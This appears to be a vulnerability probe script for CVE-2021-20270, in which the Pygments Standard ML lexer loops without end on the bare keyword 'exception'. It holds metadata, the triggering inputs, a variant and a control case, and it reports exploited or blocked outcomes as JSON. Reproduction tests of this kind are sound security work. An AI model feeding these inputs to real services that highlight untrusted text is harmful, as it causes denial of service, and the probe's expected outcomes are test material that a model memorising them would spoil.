# /// vertice-probe
# id = "PYSEC-2021-140"
# aliases = ["CVE-2021-20270", "GHSA-9w8r-397f-prfh"]
# package = "pygments"
# summary = "The Standard ML lexer never gets past a bare exception keyword, so highlighting such a text does not end."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-835"]
# kind = "dos"
# symbols = [
#   "pygments.highlight",
#   "pygments.lex",
#   "pygments.lexers.SMLLexer",
#   "pygments.lexers.ml.SMLLexer",
#   "pygments.lexers.get_lexer_by_name",
#   "pygments.lexers.guess_lexer",
# ]
#
# [[affected]]
# package = "pygments"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "1.5" }, { fixed = "2.7.4" }] }]
#
# [cases]
# attack = "the text `exception` gives tokens without end and without progress"
# [cases.variants]
# structure = "the keyword inside a structure, lexer found by file name"
# [cases.controls]
# program = "an ordinary SML program with an exception is highlighted"
#
# [test]
# vulnerable = "2.7.3"
# fixed = "2.7.4"
# ///
"""CVE-2021-20270: the SML lexer loops for ever on `exception`."""

import itertools
import json
import sys

LIMIT = 20000  # tokens; a lexer that advances needs at most a few per character


def lex_and_look(lexer, source):
    tokens = list(itertools.islice(lexer.get_tokens_unprocessed(source), LIMIT))
    if len(tokens) == LIMIT:
        where = {position for position, _, _ in tokens[-1000:]}
        return "exploited", "%d tokens from %d characters, the last 1000 all at offset %s" % (
            LIMIT,
            len(source),
            sorted(where),
        )
    if "".join(text for _, _, text in tokens) != source:
        return "error", "the lexer lost text"
    return "blocked", "lexing ended after %d tokens" % len(tokens)


def attack():
    from pygments.lexers import SMLLexer

    return lex_and_look(SMLLexer(), "exception\n")


def structure():
    from pygments.lexers import get_lexer_for_filename

    return lex_and_look(get_lexer_for_filename("shop.sml"), "structure S = struct\n  exception (* later *) 1\nend\n")


def program():
    import pygments
    from pygments.formatters import NullFormatter
    from pygments.lexers import get_lexer_by_name

    source = 'exception Empty of string\nfun head (x :: _) = x\n  | head nil = raise Empty "list"\n'
    got = pygments.highlight(source, get_lexer_by_name("sml"), NullFormatter())
    return ("works", "highlighted as written") if got == source else ("broken", repr(got))


CASES = {"attack": attack, "structure": structure, "program": program}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
